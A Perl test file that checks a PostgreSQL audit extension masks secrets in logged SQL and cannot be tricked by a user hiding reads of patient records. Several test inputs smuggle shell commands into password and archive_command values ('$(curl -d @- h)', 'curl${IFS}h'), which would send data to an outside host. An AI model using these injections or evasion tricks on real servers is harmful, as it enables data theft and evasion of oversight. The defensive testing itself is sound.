#
# Properties of masking that hold for any text: outside of literals not one byte
# changes, and masking takes linear time.  Also attacks that once hid what a
# user did, through the whole server.
#
# t/mask is a library that has the code of src/mask/ in it, for SQL to call.
#
# Copyright (c) 2026, pg_audit_queue contributors

use strict;
use warnings;

use File::Copy qw(copy);
use FindBin;
use lib "$FindBin::RealBin/../lib";
use PaqTest;
use PgProto;

use List::Util qw(min);
use Test::More;

use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;

my $mask = '<REDACTED>';
my $seed = $ENV{PAQ_SEED} // 20261123;

my $library = build_test_library('mask', 'mask_test');
my $node = audited_node('main', settings => { log_parameter => 'on' });

# The readings of backslashes that there are, and the last of them
my @conforming = conforming_settings($node);
my $other      = "SET standard_conforming_strings = $conforming[-1];";

unaudited_sql($node, join '', map { <<"SQL" }
	CREATE FUNCTION $_->[0] RETURNS $_->[1] LANGUAGE c AS '$library', '$_->[2]';
SQL
	[ 'mask(text, int DEFAULT 1)', 'text', 'mask' ],
	[ 'masks_all(text, int DEFAULT 1)', 'bool', 'masks_all' ],
	[ 'masked_value(text)', 'text', 'masked_value' ],
	[ 'masked_message(text, text)', 'text', 'masked_message' ],
	[ 'skeleton(text, bool DEFAULT true)', 'text', 'skeleton' ],
	[ 'is_same(text, int)', 'bool', 'is_same' ],
	[ 'fuzz(bigint, int, text, int, int)', 'text', 'fuzz' ],
	[ 'cpu_time(text, int)', 'float8', 'cpu_time' ],
	[ 'set_pattern(text)', 'void', 'set_pattern' ]);

# Call something in the library with texts, unaudited; returns what it returns.
sub call
{
	my ($function, @texts) = @_;
	my $n = 0;
	my %quoted;
	my $sql = '';

	foreach my $text (@texts)
	{
		my $tag = '$q' . $n++ . '$';

		die 'a tag is in a text' if index($text, $tag) >= 0;
		$sql .= "SELECT $function;\n" =~ s/\?/$tag$text$tag/r;
	}
	return asked($sql);
}

# Run SQL that leaves nothing behind in its session, unaudited; returns the lines of its output.
my $asking;

sub asked
{
	my ($sql) = @_;

	$asking //= PgProto->connect($node, options => '-c pg_audit_queue.log=none -c client_min_messages=error');
	return split /\n/, $asking->rows($sql);
}

# The same in a session of its own, by psql
sub unaudited
{
	my ($sql) = @_;
	my ($ret, $stdout, $stderr) = $node->psql('postgres',
		"SET pg_audit_queue.log = none;\nSET client_min_messages = error;\n$sql");

	die $stderr if $ret != 0;
	return split /\n/, $stdout;
}

# ---------------------------------------------------------------------------
# Outside of literals not one byte changes
# ---------------------------------------------------------------------------

# What the texts are made of, and all of it can mean something: the words that
# are looked for, quotes, comments, and what stands between these
my @pieces = (
	q{'}, q{''}, q{''''}, q{"}, q{""}, '$$', '$a$', '$b$', '$', '$1', q{E'}, q{e'\\'},
	q{U&'}, q{U&"}, q{N'}, q{B'01'}, q{X'}, "\\", "\\'", '--', "\n", "\r", '/*', '*/',
	' ', "\t", '(', ')', ',', ';', '.', '=', ':=', '=>', '||', '::', '%', '+', '-', '&',
	'@', '/', '1', '12.5', '.5', '1e5', '0x1f', '1..2', 'a', '"x"', "\xc3\xa4",
	'create role r ', 'alter user u ', 'password ', 'PASSWORD', "password '", 'set ',
	'my.secret ', 'my.token = ', 'to ', 'until ', 'create user mapping for u server s ',
	'options (', 'connection ', 'alter subscription s ', 'create function f() as ', 'do ',
	'begin ', 'then ', 'declare password text := ', 'execute ', 'select ',
	'set_config(', q{'my.secret'}, q{'my.x', }, 'new_value => ', 'setting_name => ',
	'dblink(', 'format(', '%L', '%1$s', 'quote_literal(', 'password=', 'password = x ',
	'host=h ', 'x://u:', 'x://u:p@h/', '@h', '?password=x&', 'PGPASSWORD=', 'secret',
	'SCRAM-SHA-256$4096:a$b:c', q{'alter role r password ''}, '"passwd"');

# Texts with secrets, in which there are mistakes then
my @secrets = (
	q{CREATE ROLE r PASSWORD 'zqs' VALID UNTIL '2030-01-01';},
	q{ALTER ROLE bob SET my.api_key TO 'zqs', "b", 12.5},
	qq{ALTER ROLE bob PASSWORD 'x'\n -- 'it''s'\n'zqs' LOGIN},
	q{ALTER ROLE bob PASSWORD/* 'x' /* it's */ */$a$zqs$a$-- 'x'},
	q{CREATE SUBSCRIPTION s CONNECTION 'host=/h password=zqs' PUBLICATION p WITH (slot_name = NONE)},
	q{ALTER SUBSCRIPTION s CONNECTION 'postgresql://u:zqs@h:5432/d?sslmode=disable&sslpassword=zqs'},
	q{ALTER USER MAPPING FOR bob SERVER srv OPTIONS (SET password 'zqs', ADD "api_token" E'z\\'qs', DROP user)},
	q{SELECT set_config(is_local => false, new_value => 'zqs', setting_name => 'my.secret'), 1.5e10},
	q{SELECT dblink_connect('c', 'host=h user=' || 'u' || ' password=' || 'zqs')},
	q{DO $x$ BEGIN EXECUTE format('ALTER ROLE %2$I PASSWORD %1$L', 'zqs', 'bob'); END $x$},
	q{DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ' || quote_literal('zqs') || ''; PERFORM 'x'; END $$},
	q{DO 'BEGIN EXECUTE E''DO \\''BEGIN ALTER ROLE bob PASSWORD \\''\\''zqs\\''\\''; END\\''''; END'},
	q{CREATE FUNCTION f1() RETURNS void LANGUAGE sql SET my.secret TO 'zqs' AS 'ALTER ROLE bob PASSWORD ''zqs''; SELECT ''x'''},
	q{COPY (SELECT 'password=zqs', U&'\\0061', B'01') TO PROGRAM 'PGPASSWORD="zqs" cat >/dev/null'});

# Compare random texts with what is recorded of them: when they are executed
# and when they fail, and with constants masked.
sub check_texts
{
	my ($name, $number, $texts, $length, $edits, $before) = @_;
	my $list = join "\x02", @$texts;
	my ($found) = grep { length } unaudited(($before // '')
		. "SELECT fuzz($seed, $number, \$q\$$list\$q\$, $length, $edits)");

	is($found // '', '', "$number texts of $name: what is no literal stays");
	return;
}

diag("seed: $seed (PAQ_SEED)");
my $number = full_tests() ? 1_000_000 : 50_000;

check_texts('trigger words, quotes and comments', $number, \@pieces, 24, 0);
check_texts('secrets with mistakes', $number / 4, \@secrets, 2, 6);
check_texts("trigger words with standard_conforming_strings = $conforming[-1]",
	$number / 10, \@pieces, 24, 0, $other);
check_texts('trigger words with a pattern that matches anything',
	$number / 10, \@pieces, 24, 0,
	q{SELECT set_pattern('[a-z]+.*[0-9p=]+|u:|''|alter|.[,(]');});

# SQL that people have written: each statement, and each file as one
sub check_files
{
	my ($name, $least, @files) = @_;
	my $dir = PostgreSQL::Test::Utils::tempdir();
	my $sql = "CREATE TEMP TABLE texts (t text);\n";
	my $n   = 0;

	foreach my $file (@files)
	{
		copy($file, "$dir/" . ++$n) or die "could not copy $file: $!";
		$sql .= "INSERT INTO texts SELECT convert_from(pg_read_binary_file('$dir/$n'), 'LATIN1');\n";
	}
	$sql .= q{
		INSERT INTO texts SELECT regexp_split_to_table(t, ';\s*\n') FROM texts;
		SELECT count(*), count(*) FILTER (WHERE mask(t) <> t) FROM texts;
		SELECT o || ':' || t FROM texts, generate_series(0, 3) o
			WHERE NOT is_same(t, o) LIMIT 3;};
	my ($counts, @found) = unaudited($sql);
	my ($texts, $masked) = split /\|/, $counts;

	cmp_ok($texts, '>=', $least, "$name: $texts texts, $masked with something masked");
	is_deeply(\@found, [], 'what is no literal stays');
	return;
}

my $root = "$FindBin::RealBin/../..";

check_files("the project's files", 500,
	map { glob "$root/$_" } 't/*/*.pl', 't/lib/parity/*.sql', 'sql/*.sql', '*.sql', 'README.md', 'doc/*.md', 'src/*/*.c');
SKIP:
{
	my $suite = ($ENV{PAQ_PG_SOURCE} // '') . '/src/test/regress/sql';

	if (!-r "$suite/create_role.sql")
	{
		diag("WITHOUT THE TEXTS OF POSTGRESQL'S REGRESSION SUITE: PAQ_PG_SOURCE names no sources");
		skip 'no sources of PostgreSQL', 2;
	}
	check_files("PostgreSQL's regression suite", 20_000, glob "$suite/*.sql");
}

# ---------------------------------------------------------------------------
# Time is linear in the length, memory goes back
# ---------------------------------------------------------------------------

# Texts of a length, each of which could be slow in its own way
my %long = (
	'trigger words' => q{repeat('password token secret ', n / 22)},
	'literals' => q{'select ' || repeat('''password=x'', ', n / 14)},
	'literals with SQL' => q{'select ' || repeat('''alter role x password ''''y'''''', ', n / 32)},
	'literals with errors' => q{'select ' || repeat('''alter 1a password'', ', n / 22)},
	'literals put together' => q{'select ' || repeat('''password='' || ', n / 16)},
	'calls in each other' => q{repeat('set_config(''a.secret'',', n / 23)},
	'named arguments' => q{repeat('set_config(new_value=>''x'', setting_name=>''a.secret'',', n / 54)},
	'format()' => q{'select format(''' || repeat('alter role x password %L;', n / 25) || ''')'},
	'addresses' => q{'select ''' || repeat('a://b:c@d?password=x&', n / 21) || ''''},
	'addresses without end' => q{'select ''' || repeat('a://b:', n / 6) || '@'''},
	'connection strings' => q{'select dblink(''' || repeat('password=x y ', n / 13) || ''')'},
	'tags of dollar quotes' => q{'do $$ password ' || repeat('$a$ $b', n / 6) || '$$'},
	'many tags' => q{(select string_agg('$a' || i || '$', ' password ') from generate_series(1, n / 16) i)},
	'operators' => q{'do $x$ password ' || repeat('+', n) || '$x$'},
	'comments in each other' => q{'do $x$ password ' || repeat('/*', n / 2) || '$x$'},
	'quotes' => q{'do ''password ' || repeat('''''', n / 2) || ''''},
	'literals in each other' => q{'do $a$ do $b$ do $c$ do $d$ do $e$ do $f$ do $g$ do $h$ ' ||
		repeat('password ', n / 9) || '$h$ $g$ $f$ $e$ $d$ $c$ $b$ $a$'},
	'escapes' => q{'select E''password=' || repeat('\x41', n / 4) || ''''},
	'Unicode escapes' => q{'select U&''password=' || repeat('\0041', n / 5) || ''''},
	'backslashes in front of quotes' => q{'select ''password\'' , ' || repeat('''\'' ', n / 5)},
	'a literal without end' => q{'select password ''' || repeat('''''', n / 2)},
	'settings' => q{'password ' || repeat('set a.token = 1;', n / 16)},
	'a name of many literals' => q{'select set_config(new_value => ''' || repeat('x', n / 2) ||
		''', setting_name => (array[''a.password''' || repeat(',''x''', n / 8) || '])[1])'},
	'names of settings' => q{repeat('set a.' || repeat('token', 30) || '.b = 1;', n / 160)},
	'identifiers' => q{'select password, ' || repeat('a b ', n / 4)});

# Least CPU time of some runs, each with a text of its own
sub seconds
{
	my ($text, $length, $options) = @_;

	$text =~ s/\bn\b/$length/g;
	my ($seconds) = asked(
		"SELECT min(cpu_time(($text) || ' ' || i, $options)) FROM generate_series(1, 3) i");
	return $seconds;
}

# Ten times the text may take so many times as long: quadratic time would be a
# hundred, and caches that are too small for the long one can make twenty of what
# is ten.  Others that use them can but add to a time, so that what seems slow is
# measured again, and the least times count.
use constant {
	LIMIT  => 40,
	ROUNDS => 5
};

# Is the time for ten times the length within the limit?  Returns that, and times.
# What takes no time can take any number of times as long.
sub is_linear
{
	my ($text, $length, $options) = @_;
	my ($short, $long);

	foreach my $round (1 .. ROUNDS)
	{
		$short = min($short // (), seconds($text, $length, $options));
		$long = min($long // (), seconds($text, 10 * $length, $options));
		last if $long <= LIMIT * ($short + 0.005);
	}
	return ($long <= LIMIT * ($short + 0.005), "$short s, $long s");
}

my @slow;

foreach my $name (sort keys %long)
{
	foreach my $options (0, 1, 3)
	{
		# first with short texts: what is not linear would take hours with the others
		foreach my $length (10_000, 100_000)
		{
			my ($linear, $times) = is_linear($long{$name}, $length, $options);

			next if $linear;
			push @slow, "$name, $options: $times";
			last;
		}
	}
}
is_deeply(\@slow, [], 'ten times the text takes ten times as long');
{
	my ($linear, $times) = is_linear($long{'trigger words'}, 1_000_000, 1);

	ok($linear, "10 MB of trigger words, and 1 MB: $times");
}
{
	my ($grown) = unaudited(q{
		SELECT sum(length(mask('select ' || repeat('''alter role x password ''''y'''''', ', 30000) || i)))
			FROM generate_series(1, 3) i \g /dev/null
		SELECT sum(total_bytes) AS before FROM pg_backend_memory_contexts \gset
		SELECT sum(length(mask('select ' || repeat('''alter role x password ''''y'''''', ', 30000) || i)))
			FROM generate_series(4, 12) i \g /dev/null
		SELECT sum(total_bytes) - :before FROM pg_backend_memory_contexts;});

	cmp_ok($grown, '<', 4_000_000, "memory of a session goes back ($grown)");
}

# Most memory, in kB, that a session needs for a long text within so many literals
sub peak
{
	my ($depth) = @_;
	my @tags  = map { "\$$_\$" } ('a' .. 'z')[ 0 .. $depth - 1 ];
	my $open  = join '', map { "do $_ " } @tags;
	my $close = join '', reverse @tags;
	my (undef, $peak) = unaudited(qq{
		SELECT length(mask('$open' || repeat('password ', 800000) || '$close'));
		SELECT substring(pg_read_file('/proc/self/status') FROM 'VmHWM:\\s+([0-9]+)')});

	return $peak;
}
SKIP:
{
	skip 'no /proc that tells about memory', 1
	  if !-r '/proc/self/status' || slurp_file('/proc/self/status') !~ /^VmHWM:/m;
	my ($one, $six) = (peak(1), peak(6));

	cmp_ok($six, '<', 1.3 * $one, "memory for a text six literals deep: $six kB, one: $one kB");
}

# ---------------------------------------------------------------------------
# What is a secret, and what only looks like it
# ---------------------------------------------------------------------------

# Names of settings that are longer than any buffer: what follows is as it would be
foreach my $length (1, 62, 124 .. 130, 255 .. 257, 5000)
{
	my $part = 'a' x $length;

	foreach my $name ("$part.token", "$part.$part.token", "b.$part", "\"$part\".token", "$part..x")
	{
		my $text = "SET $name = 'x'; SELECT set_config('my.secret', 'y', 'z'), format('%s', 'a')";
		my ($shown, $nested, $value) = map { asked("SELECT $_") } (
			"mask(\$q\$$text\$q\$)", "mask(\$q\$DO \$x\$ BEGIN $text; END \$x\$\$q\$)",
			"masked_value(\$q\$$text\$q\$)");
		my @wrong = grep { !/'my.secret', '<REDACTED>', 'z'\), format\('%s', 'a'\)/ }
		  $shown, $nested, $value;

		is_deeply(\@wrong, [], "name of $length bytes: " . substr($name, -20));
	}
}

# Pairs: what is in double brackets is masked, nothing else is.
foreach my $case (
	q{ALTER ROLE bob PASSWORD '[[x]]' VALID UNTIL '2030'},
	q{ALTER ROLE bob PASSWORD N'[[x]]'},
	q{SET SESSION my.token = 00; SET my.token TO '[[x]]', '[[y]]'; SELECT 'z'},
	q{SELECT set_config(is_local => false, new_value => '[[x]]', setting_name => 'my.secret')},
	q{SELECT set_config('my.secret', '[[x]]' || lower('[[y]]'), 'z'), 'password', 'a'},
	q{DO $$ BEGIN SET my.token = '[[x]]'; UPDATE t SET token = 'y' WHERE password = 'z'; END $$},
	q{CREATE FUNCTION f(a int DEFAULT CASE WHEN true THEN 1 ELSE 2 END) AS $$ BEGIN ALTER ROLE r PASSWORD '[[x]]'; END $$},
	q{DO $$ import os; f("postgres://u:[[x]]@h", "host=h password=[[y]]") $$},
	q{SELECT 'postgresql://u:[[a?b c]]@h/db?x=y'},
	q{ALTER ROLE set PASSWORD '[[x]]'; CREATE USER mapping PASSWORD '[[y]]'},
	q{CREATE USER MAPPING IF NOT EXISTS FOR u SERVER s OPTIONS (user 'a', password '[[x]]')},
	q{ALTER ROLE set SET my.x = 'a'; ALTER ROLE role SET my.x = 'b'; ALTER USER u SET my.token = '[[x]]'},
	q{DO $$ BEGIN EXECUTE format('ALTER ROLE %I PASSWORD ''[[x]]''', a, format('ALTER USER %I PASSWORD ''[[y]]''', b)); END $$},
	q{SET my.token TO a, '[[x]]', b, '[[y]]'; SELECT 'z'},
	q{CREATE FUNCTION f() RETURNS int SET my.token TO a AS 'password', 'x' SET my.token TO '[[x]]' AS 'password'},
	q{SET "my.secret" = '[[x]]'; SET "secret.my" = 'y'; ALTER ROLE r SET "a.b".token TO '[[x]]'},
	q{SELECT set_config("new_value" => '[[x]]', "is_local" => true, "setting_name" => 'my.secret')},
	q{SELECT set_config('my.secret', a::timestamp with time zone || '[[x]]', true)},
	q{SELECT set_config((SELECT 'my.secret'), '[[x]]', true)},
	q{SELECT set_config('my.secret', '[[x]]' || (SELECT 'a' || set_config('my.x', 'b', true)), 'c')},
	q{SELECT 'postgresql://h/d?application_name=it''s a&password=[[a;b #c''d]]&user=x'},
	q{SELECT 'https://h/?a=b password=c'},
	# commands
	q{ALTER SYSTEM SET archive_command = 'PGPASSWORD=[[a,b\ c]] true'},
	q{ALTER SYSTEM SET archive_command = 'PGPASSWORD=[["a\"b c"]] true "x"'},
	q{ALTER SYSTEM SET archive_command = 'PGPASSWORD=[[''it''\''''s x'']] true ''x'''},
	q{COPY p TO PROGRAM 'PGPASSWORD=[["x]]$(curl -d @- h)" true'},
	q{COPY p TO PROGRAM 'PGPASSWORD=[[x]]$(curl${IFS}h) PGPASSWORD=`curl h` PGPASSWORD=[[x]]>h true'},
	q{COPY p TO PROGRAM 'port=5 password=x; curl -d @- h'},
	q{COPY p TO PROGRAM 'PGPASSWORD=[[x]]; curl -d @- h'},
	q{COPY p TO PROGRAM 'true x://u:;curl${IFS}h;@h x://h?token=[[x]]|curl${IFS}h'},
	q{CREATE FOREIGN TABLE f () SERVER s OPTIONS ("program" 'port=5 password=x;curl${IFS}h')},
	q{CREATE FOREIGN TABLE f () SERVER s OPTIONS (U&"pro\0067ram" 'port=5 password=x;curl${IFS}h')},
	q{ALTER SYSTEM SET archive_command = 'port=5 password=x;curl${IFS}h'},
	q{ALTER SYSTEM SET "Archive_Command" TO 'x://u:`curl${IFS}h`;curl${IFS}h@h'},
	q{ALTER SYSTEM SET primary_conninfo = 'port=5 password=[[x;y]]'},
	# data
	q{SELECT begin, alter, role, '1' FROM (SELECT 1 AS begin, 2 AS alter, 3 AS role) s /* password */},
	q{SELECT CASE WHEN true THEN alter || role END FROM p WHERE ssn LIKE '123%' /* password */},
	q{DO $$ BEGIN PERFORM x FROM t WHERE then = alter || role AND ssn = '123'; END /* password */ $$},
	q{SELECT * FROM p WHERE 'PASSWORD ' <> '' AND ssn LIKE '123%'},
	q{SELECT * FROM p WHERE ssn = '123' AND password '456' <> x},
	q{SELECT alter role, 'password', ssn FROM p WHERE ssn = '123'},
	q{SELECT create, user password, '123' FROM options(password '123')},
	q{SELECT CASE WHEN true THEN set my.token ELSE '123' END},
	q{CREATE TABLE a AS SELECT options(password '123')},
	q{SELECT 'alter role x password ' , '123'},
	q{SELECT 'alter role x password ' || name || '123' FROM p},
	q{SELECT 'host=h password=' , ssn FROM p WHERE ssn = '123'},
	q{SELECT 'x://u:' || ssn FROM p WHERE ssn = '123' OR ssn = '@h'},
	q{SELECT 'a password=b c', 'password', '=', 'x=y password=z', 'token=x'},
	q{SELECT 'x://u: DELETE FROM t @h', 'x://u/:a@b', '://u:p@h'},
	q{SELECT set_config('my.secret', (SELECT ssn FROM p WHERE ssn = '123'), true)},
	q{SELECT set_config('my.x', '123', true), 'my.secret', '456'},
	q{UPDATE p SET password = '123', my.secret = '456' WHERE ssn = '789'},
	q{INSERT INTO p VALUES ('1') ON CONFLICT DO UPDATE SET token = '123'},
	q{SELECT f(password => '123', token := '456')},
	q{DO $$ BEGIN PERFORM alter role, 'password' FROM p WHERE ssn = '123'; END $$},
	q{DO $$ BEGIN <<token>> FOR r IN SELECT * FROM p WHERE ssn = '123' LOOP END LOOP; END $$},
	q{DO $$ BEGIN token := '[[x]]' || (SELECT a FROM p WHERE ssn = '123' AND b = '456'); END $$},
	'DO $$ -- ' . '-' x 300 . qq{\n} . q{BEGIN DELETE FROM p WHERE token = '123'; END $$},
	q{DO $$ BEGIN PERFORM 1 /*x://u:*/; DELETE FROM p WHERE ssn = '123'; /*@h*/ END $$},
	q{DO $$ BEGIN PERFORM 'x://u:',f('123'),'@h'; END $$},
	qq{--x://u:\nSELECT ssn FROM p\n--\@h},
	q{SELECT ssn /*x://u:*/ FROM p WHERE ssn = '123' /*@h*/},
	q{SELECT '1' AS "x://u:p@h", '2' AS "password=123"},
	q{COMMENT ON ROLE r IS 'alter the password: ''123'''})
{
	my $sent  = $case =~ s/\[\[|\]\]//gr;
	my $shown = $case =~ s/\[\[.*?\]\]/$mask/gr;

	is(join("\n", call('mask(?)', $sent)), $shown, $sent =~ s/\n/ /gr);
}
is(join('', call('masked_value(?)', q{alter role x password 'y' valid until 'z'})),
	"alter role x password '$mask' valid until 'z'", 'SQL in a value');
is(join('', call('masked_value(?)', 'the password is not x://u:p, a=b')),
	'the password is not x://u:p, a=b', 'prose in a value');
is( join('', asked(q{SELECT masked_message($q$bad: "it's" "x"$q$, $q$alter role x foo 'it''s'$q$)})),
	qq{bad: "$mask" "x"},
	'a message that quotes a literal');

# A text that can be read in two ways is shown so that it is right in both; or the
# right one of them, which from 19 on there is not
foreach my $case (
	grep { my $setting = $_->[1]; grep { $_ eq $setting } @conforming }
	[ q{SELECT 'a\\' , ' password=x , ''b' /* '*/}, 'on' ],
	[ q{SELECT 'password=\\', ssn, 'x' FROM p -- '}, 'on' ],
	[ q{ALTER ROLE bob PASSWORD 'it\\'s x' LOGIN}, 'on', @conforming > 1 ? q{ALTER ROLE bob PASSWORD '<REDACTED>' LOGIN} : () ],
	[ q{ALTER ROLE bob PASSWORD 'x\\' LOGIN}, 'off', q{ALTER ROLE bob PASSWORD '<REDACTED>' LOGIN} ])
{
	my ($text, $setting, $shown) = @$case;
	my ($same, $masked) = unaudited(
		"SET standard_conforming_strings = $setting;
		 SELECT is_same(\$q\$$text\$q\$, 1); SELECT mask(\$q\$$text\$q\$);");

	is($same, 't', "$setting: $text");
	is($masked, $shown, 'is masked') if defined $shown;
}

# ... whichever of them was PostgreSQL's, and whatever is to be replaced
foreach my $text (
	q{SELECT 'a\\', id, 'b' /* '*/ FROM p -- password},
	q{SELECT 'a\\', ' || name FROM p WHERE name <> ' x' -- 'password},
	q{ALTER ROLE bob PASSWORD 'x\\', 1 , 'x' /* '*/},
	q{SELECT 'a\\' || $$it's$$, 12, ' 345 \\'' , 6 /*'*/})
{
	foreach my $setting (@conforming)
	{
		foreach my $options (0 .. 3)
		{
			my ($shown) = unaudited(
				"SET standard_conforming_strings = $setting;
				 SELECT mask(\$q\$$text\$q\$, $options);");
			# constants have places only where there is one way
			next if $shown =~ /\$1/;
			my @same = unaudited(join '', map { <<"SQL" } @conforming);
				SET standard_conforming_strings = $_;
				SELECT skeleton(\$q\$$shown\$q\$, true) = skeleton(\$q\$$text\$q\$, true);
SQL

			is(join('', @same), 't' x @conforming, "both ways, $setting, $options: $shown");
		}
	}
}

# what a pattern matches is masked in either reading
is( join('', unaudited(q{SELECT set_pattern('zq[0-9]+'); SELECT mask($q$SELECT 'its\\', 'zq123' FROM p$q$)})),
	q{SELECT 'its\\', '<REDACTED>' FROM p},
	'a pattern, and a backslash in front of a quote');
is( join('', unaudited(
			q{SELECT set_pattern('zq[0-9]+'); SELECT mask($q$SELECT 'it\\'s', 'zq123' FROM p$q$)})),
	q{SELECT 'it\\'s', '<REDACTED>' FROM p},
	'a pattern, and quotes that are read in another way')
  if @conforming > 1;

# Beyond the depth that is looked into, a literal is masked and the record says so
{
	my $text = join('', map { "do \$$_\$ " } 'a' .. 'k') . "alter role x password 'y'"
	  . join('', map { " \$$_\$" } reverse 'a' .. 'k');

	is(join('', call('masks_all(?)', $text)), 't', 'too deep: said');
	like(join('', call('mask(?)', $text)), qr/\Ado \$a\$ do \$b\$ do \$c\$ .*\Q$mask\E.* \$b\$ \$a\$\z/,
		'too deep: what is further out stays');
	is(join('', call('masks_all(?)', $text =~ s/password/x/r)), 'f', 'no trigger word');
}

# ---------------------------------------------------------------------------
# An ordinary user, who wants to hide what he did
# ---------------------------------------------------------------------------

unaudited_sql(
	$node, q{
	CREATE ROLE mallory LOGIN;
	CREATE TABLE patients (ssn text, alter text, note text);
	INSERT INTO patients VALUES ('123-45-6789', 'a', 'b');
	GRANT ALL ON patients TO PUBLIC;
	GRANT CREATE ON SCHEMA public TO PUBLIC});

# What the trail has of texts that he sends
sub recorded
{
	my ($texts, @params) = @_;
	my @records = records_for(
		$node,
		sub {
			my $client = PgProto->connect($node, user => 'mallory');

			foreach my $text (@$texts)
			{
				@params
				  ? $client->parse('', $text)->bind('', '', @params)->execute('')->sync
				  : $client->query($text);
			}
			$client->quit;
		});

	return grep { ($_->{class} // '') =~ /^(?:READ|WRITE|FUNCTION|DDL|MISC|ERROR)$/ } @records;
}

foreach my $text (
	qq{SELECT --x://u:\nnote FROM patients WHERE ssn LIKE '123%'\n--\@h},
	q{SELECT note /*x://u:*/ FROM patients WHERE ssn LIKE '123%' /*@h*/},
	'SELECT ' . q{set_config('a.b', } x 260 . q{'c'} . q{, true)} x 260
	  . q{, note /* token */ FROM patients WHERE ssn LIKE '123%'},
	q{SELECT note FROM patients WHERE 'PASSWORD ' <> '' AND ssn LIKE '123%'},
	q{DO $$ BEGIN PERFORM alter role, 'password' FROM patients WHERE ssn LIKE '123%'; END $$},
	q{DELETE FROM patients WHERE ssn = 'x' /* password */ OR note = 'token=1'},
	q{SELECT note AS "PASSWORD 'x'" FROM patients WHERE ssn = '123' -- alter role x password 'y'})
{
	my @texts = map { $_->{commandText} // 'none' } recorded([$text]);

	cmp_ok(scalar(grep { $_ eq $text } @texts), '>=', 1, 'whole: ' . substr($text, 0, 60) =~ s/\n/ /gr);
	is_deeply([ grep { /\Q$mask\E/ || $_ eq 'none' } @texts ], [], 'nothing is masked');
}

# not by a setting that is another one when the text was parsed
{
	my $text = "$other "
	  . q{SELECT note FROM patients WHERE note <> 'password=\\' AND ssn LIKE '123%' AND note <> 'x'};

	my ($record) = grep { $_->{class} eq 'READ' } recorded([$text]);

	like($record->{commandText}, qr/AND ssn LIKE '123%' AND/, 'standard_conforming_strings');
}

# not the parameters, by as many calls as it takes
{
	my $calls = join ', ', map { "set_config('a.b', \$2, true)" } 1 .. 40;
	my ($record) = grep { $_->{class} eq 'READ' }
	  recorded(["SELECT note, $calls FROM patients WHERE ssn = \$1"], '123', 'x');

	is_deeply($record->{paramList}, [ '123', 'x' ], 'parameters');
}

# not the parameters of a statement that was parsed with another reading of quotes
{
	my @records = records_for(
		$node,
		sub {
			my $client = PgProto->connect($node, user => 'mallory');
			my $quoted = @conforming > 1 ? q{'it\\'s'} : q{'it\\'};

			$client->query($other);
			$client->parse('s', "SELECT $quoted, set_config('my.secret', \$1, true), \$2::text")->sync;
			$client->query('SET standard_conforming_strings = on');
			$client->bind('', 's', 'x', 'y')->execute('')->sync;
			$client->quit;
		});
	my ($record) = grep { $_->{class} eq 'READ' } @records;

	is_deeply($record->{paramList}, [ $mask, 'y' ], 'parameters, with another reading of quotes');
}

# not by failing: names stay, and the record says what became of the literals
{
	my $text = q{SELECT note FROM patients WHERE ssn = '123' AND nosuch = 'password'};
	my ($record) = recorded([$text]);

	is($record->{commandText}, $text =~ s/'[^']*'/'$mask'/gr, 'a statement that fails');
	ok($record->{masked}, 'is marked');
}

# not by depth: what is executed in the end has a record of its own
{
	my $text = q{DELETE FROM patients WHERE note = 'password' AND ssn = '123'};

	$text = "DO \$$_\$ BEGIN EXECUTE \$e$_\$ $text \$e$_\$; END \$$_\$" foreach 'a' .. 'f';
	my @records = recorded([$text]);

	is((grep { $_->{class} eq 'WRITE' } @records)[0]{commandText},
		shown_text($node, q{ DELETE FROM patients WHERE note = 'password' AND ssn = '123' }), 'depth');
	like($records[-1]{commandText}, qr/\ADO \$f\$ BEGIN EXECUTE/, 'the outermost statement');
}

# not by the administrator's patterns
{
	unaudited_sql($node, q{ALTER ROLE mallory SET pg_audit_queue.mask_patterns = 'card[^#]*#'});
	my $text = q{SELECT note AS "card" FROM patients WHERE ssn = 'card 12#' AND ssn <> '123'};
	my ($record) = grep { $_->{class} eq 'READ' } recorded([$text]);

	is($record->{commandText},
		qq{SELECT note AS "card" FROM patients WHERE ssn = '$mask' AND ssn <> '123'},
		'mask_patterns');
	unaudited_sql($node, 'ALTER ROLE mallory RESET ALL');
}

$node->stop;
done_testing();
